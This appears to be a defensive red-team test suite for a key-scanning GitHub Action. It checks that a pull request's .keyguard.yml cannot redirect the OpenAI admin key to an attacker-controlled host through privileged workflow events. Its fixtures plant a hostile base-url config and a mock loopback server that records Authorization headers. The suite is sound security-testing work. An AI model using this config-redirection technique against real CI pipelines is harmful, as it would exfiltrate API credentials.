/**
 * Red-team review of issue 10: can a pull request get the OpenAI admin key sent to its own host?
 * `auto` maps every event it does not list to sweep (rotation on), and sweep reads .keyguard.yml from
 * the checkout. Privileged events that carry a pull request (a workflow_run after a fork's PR, an
 * issue_comment ChatOps "/rescan" on a PR, a pull_request_review) are commonly run on a checkout of
 * the PR head, so the PR's `providers.openai.base-url` decides where the admin key goes. The attacker
 * needs no key of ours: its server answers "live" to any key-shaped string it planted.
 * Each test asserts the SAFE outcome; `it.failing` marks a hole found.
 */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { join } from 'node:path';
import type { GitHubEmulator } from '../emulators/github.js';
import { KeyGen } from '../helpers/keygen.js';
import { TestRepo } from './harness.js';
import { runKeyguard, startGitHub } from './helpers/world.js';

const gen = new KeyGen(9999);

interface Attacker {
  url: string;
  auths: string[];
  stop: () => Promise<void>;
}

/** The attacker's "OpenAI": every key is live, every admin call is recorded and refused. */
async function attackerHost(): Promise<Attacker> {
  const auths: string[] = [];
  const sockets = new Set<Socket>();
  const server: Server = createServer((req, res) => {
    auths.push(String(req.headers.authorization ?? ''));
    req.resume();
    req.on('end', () => {
      res.writeHead(req.url?.startsWith('/v1/models') ? 200 : 404, { 'content-type': 'application/json' });
      res.end(
        req.url?.startsWith('/v1/models')
          ? '{"object":"list","data":[{"id":"gpt-4o","object":"model"}]}'
          : '{"error":{"message":"not found","type":"invalid_request_error"}}',
      );
    });
  });
  server.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    auths,
    stop: () =>
      new Promise<void>((r) => {
        for (const s of sockets) s.destroy();
        server.close(() => r());
      }),
  };
}

let github: GitHubEmulator;
let attacker: Attacker;
let repo: TestRepo | undefined;
beforeEach(async () => {
  github = await startGitHub();
  attacker = await attackerHost();
});
afterEach(async () => {
  repo?.cleanup();
  repo = undefined;
  await Promise.all([github.stop(), attacker.stop()]);
});

/** The default branch, then the PR head checked out (as `actions/checkout` with the PR's ref does). */
function prHeadCheckout(): { base: string; head: string } {
  const r = new TestRepo('kg-exfil-');
  repo = r;
  const base = r.commit('init', { 'README.md': '# app\n' });
  execFileSync('git', ['clone', '-q', '--bare', r.dir, `${r.dir}-origin.git`]);
  r.git('remote', 'add', 'origin', `${r.dir}-origin.git`);
  r.git('checkout', '-q', '-b', 'pr-head');
  const head = r.commit('innocent change', {
    'notes.txt': `OPENAI_API_KEY=${gen.openaiProject()}\n`,
    '.keyguard.yml': `providers:\n  openai:\n    base-url: ${attacker.url}/v1\n`,
  });
  return { base, head };
}

const pr = (base: string, head: string, fork: boolean) => ({
  number: 7,
  commits: 1,
  base: { sha: base, ref: 'main', repo: { full_name: 'acme/app', fork: false } },
  head: {
    sha: head,
    ref: 'feature',
    repo: { full_name: fork ? 'mallory/app' : 'acme/app', fork },
  },
});

/** Nobody listens here: verification fails fast as `unknown`, and no traffic leaves the machine. */
const DEAD_LOOPBACK = 'http://127.0.0.1:9/v1';

const EVENTS: [string, (base: string, head: string) => Record<string, unknown>][] = [
  [
    'workflow_run after a fork’s pull_request',
    (base, head) => ({
      action: 'completed',
      workflow_run: {
        event: 'pull_request',
        head_sha: head,
        head_branch: 'feature',
        head_repository: { full_name: 'mallory/app', fork: true },
        repository: { full_name: 'acme/app' },
        pull_requests: [{ number: 7, head: { sha: head }, base: { sha: base } }],
      },
      repository: { full_name: 'acme/app' },
    }),
  ],
  [
    'issue_comment "/rescan" on a fork’s pull request',
    (_base, _head) => ({
      action: 'created',
      issue: { number: 7, pull_request: { url: 'http://127.0.0.1:9/repos/acme/app/pulls/7' } },
      comment: { body: '/rescan', user: { login: 'mallory' } },
      repository: { full_name: 'acme/app' },
    }),
  ],
  [
    'pull_request_review on a same-repository pull request',
    (base, head) => ({
      action: 'submitted',
      review: { state: 'commented', user: { login: 'mallory' } },
      pull_request: pr(base, head, false),
      repository: { full_name: 'acme/app' },
    }),
  ],
];

const eventName = (label: string) => label.split(' ')[0]!;

describe('red team: privileged events on a PR-head checkout', () => {
  it.each(EVENTS)(
    '%s never sends the admin key to the host the PR’s .keyguard.yml names',
    async (label, payload) => {
      const { base, head } = prHeadCheckout();
      const admin = gen.openaiAdmin();
      await runKeyguard({
        repo: repo!,
        github,
        eventName: eventName(label),
        payload: payload(base, head),
        // Verification may run (pr mode): the input base URL keeps it on a dead loopback port, never a real host.
        inputs: { 'openai-admin-key': admin, 'openai-base-url': DEAD_LOOPBACK },
      });
      expect(attacker.auths.filter((a) => a.includes(admin))).toEqual([]);
    },
    120_000,
  );

  it('pull_request_target on the same PR-head checkout never sends the admin key there (the documented case)', async () => {
    const { base, head } = prHeadCheckout();
    const admin = gen.openaiAdmin();
    await runKeyguard({
      repo: repo!,
      github,
      eventName: 'pull_request_target',
      payload: {
        action: 'synchronize',
        number: 7,
        pull_request: pr(base, head, true),
        repository: { full_name: 'acme/app' },
      },
      // Verification may run (pr mode): the input base URL keeps it on a dead loopback port, never a real host.
      inputs: { 'openai-admin-key': admin, 'openai-base-url': DEAD_LOOPBACK },
    });
    expect(attacker.auths.filter((a) => a.includes(admin))).toEqual([]);
  }, 120_000);
});

describe('mode auto on events keyguard does not know', () => {
  it('refuses an unknown event with an error naming the mode input, and sends the admin key nowhere', async () => {
    prHeadCheckout();
    const admin = gen.openaiAdmin();
    const run = await runKeyguard({
      repo: repo!,
      github,
      eventName: 'discussion_comment',
      payload: { action: 'created', comment: { body: '/rescan' }, repository: { full_name: 'acme/app' } },
      // Verification may run (pr mode): the input base URL keeps it on a dead loopback port, never a real host.
      inputs: { 'openai-admin-key': admin, 'openai-base-url': DEAD_LOOPBACK },
    });
    expect(run.code).toBe(2);
    expect(run.stdout).toContain('keyguard does not know the event "discussion_comment"');
    expect(run.stdout).toContain('set the mode input');
    expect(attacker.auths).toEqual([]);
  }, 120_000);

  it('checks an issue_comment on a pull request as a pull request: without base and head it refuses, saying why', async () => {
    prHeadCheckout();
    const run = await runKeyguard({
      repo: repo!,
      github,
      eventName: 'issue_comment',
      payload: EVENTS[1]![1]('', ''),
      inputs: { 'openai-admin-key': gen.openaiAdmin() },
    });
    expect(run.code).toBe(2);
    expect(run.stdout).toContain('this event is about a pull request, so keyguard checks it as one');
    expect(attacker.auths).toEqual([]);
  }, 120_000);

  it('scans a workflow_run after a fork’s pull request as that pull request (base..head), with the base’s policy', async () => {
    const { base, head } = prHeadCheckout();
    const run = await runKeyguard({
      repo: repo!,
      github,
      eventName: 'workflow_run',
      payload: EVENTS[0]![1](base, head),
      // No verification: the base's policy names no host, and tests reach only loopback.
      inputs: { 'openai-admin-key': gen.openaiAdmin(), verify: 'false' },
    });
    expect(run.summary).toContain('mode `pr`');
    expect(run.code).toBe(1);
    expect(Number(run.outputs.findings)).toBe(1);
  }, 120_000);
});

/**
 * Defence in depth (whatever the mode): a URL in .keyguard.yml decides where keys go only when the file
 * is the trusted commit's copy (GITHUB_SHA, or a pull request's base).
 */
describe('where keys are sent comes only from a trusted copy of the config', () => {
  it('ignores the base-url of a PR head checkout swept with mode: sweep (GITHUB_SHA is the default branch), with a warning', async () => {
    const { base } = prHeadCheckout();
    const admin = gen.openaiAdmin();
    const run = await runKeyguard({
      repo: repo!,
      github,
      eventName: 'issue_comment',
      sha: base,
      payload: EVENTS[1]![1]('', ''),
      // The openai adapter then goes to a loopback port nobody listens on, never to api.openai.com.
      inputs: { mode: 'sweep', 'openai-admin-key': admin, 'openai-base-url': 'http://127.0.0.1:9/v1' },
    });
    expect(attacker.auths).toEqual([]);
    // An issue_comment on a pull request names no base: no commit's copy is trusted.
    expect(run.stdout).toContain(
      '::warning::.keyguard.yml: providers.openai.baseUrl ignored: there is no trusted commit',
    );
  }, 120_000);

  it.each([
    ['the checkout is another commit than GITHUB_SHA', 'other-commit'],
    ['a step rewrote the committed file', 'rewritten'],
  ])(
    'ignores a config base-url when %s',
    async (_label, how) => {
      const r = new TestRepo('kg-exfil-');
      repo = r;
      const trusted = r.commit('init', {
        'notes.txt': `OPENAI_API_KEY=${gen.openaiProject()}\n`,
        '.keyguard.yml': 'providers:\n  openai:\n    base-url: http://127.0.0.1:9/v1\n',
      });
      const hostile = `providers:\n  openai:\n    base-url: ${attacker.url}/v1\n`;
      if (how === 'other-commit') r.commit('point elsewhere', { '.keyguard.yml': hostile });
      else writeFileSync(join(r.dir, '.keyguard.yml'), hostile);
      const admin = gen.openaiAdmin();
      const run = await runKeyguard({
        repo: r,
        github,
        sha: trusted,
        // Verification may run (pr mode): the input base URL keeps it on a dead loopback port, never a real host.
        inputs: { 'openai-admin-key': admin, 'openai-base-url': DEAD_LOOPBACK },
      });
      expect(attacker.auths).toEqual([]);
      expect(run.stdout).toContain(
        '::warning::.keyguard.yml: providers.openai.baseUrl ignored: it differs from the copy in commit',
      );
      // The input is set (so nothing goes to a real host): the warning says the input is used instead.
      expect(run.stdout).toContain('(the openai-base-url input is used)');
    },
    120_000,
  );

  it('uses a config base-url that is the committed file of the commit the run is for', async () => {
    const r = new TestRepo('kg-exfil-');
    repo = r;
    const key = gen.openaiProject();
    r.commit('init', {
      'notes.txt': `OPENAI_API_KEY=${key}\n`,
      '.keyguard.yml': `providers:\n  openai:\n    base-url: ${attacker.url}/v1\n`,
    });
    const run = await runKeyguard({ repo: r, github, inputs: { rotate: 'off' } });
    expect(run.stdout).not.toContain('providers.openai.baseUrl ignored');
    expect(attacker.auths).toContain(`Bearer ${key}`);
  }, 120_000);
});
